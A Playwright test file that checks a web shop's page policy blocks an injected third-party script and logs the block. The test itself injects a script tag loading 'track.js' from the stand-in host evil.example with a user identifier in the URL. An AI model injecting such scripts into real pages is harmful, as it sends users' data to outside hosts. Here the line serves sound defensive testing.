import { expect, test as plain } from '@playwright/test';
import { withShop } from '../support/shop.ts';

// The base test does not fail for errors in the browser's console, where the blocked script appears.
plain('a script that a page does not allow is blocked, and told in the log', async ({ page }) => {
  await withShop({}, async (shop) => {
    await page.goto(`${shop.url}/search?q=a`);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/track.js?who=ann';
      document.head.append(script);
    });
    await expect.poll(() => shop.log()).toContain('"blocked":"https://evil.example"');
    expect(shop.log()).not.toContain('who=ann');
  });
});
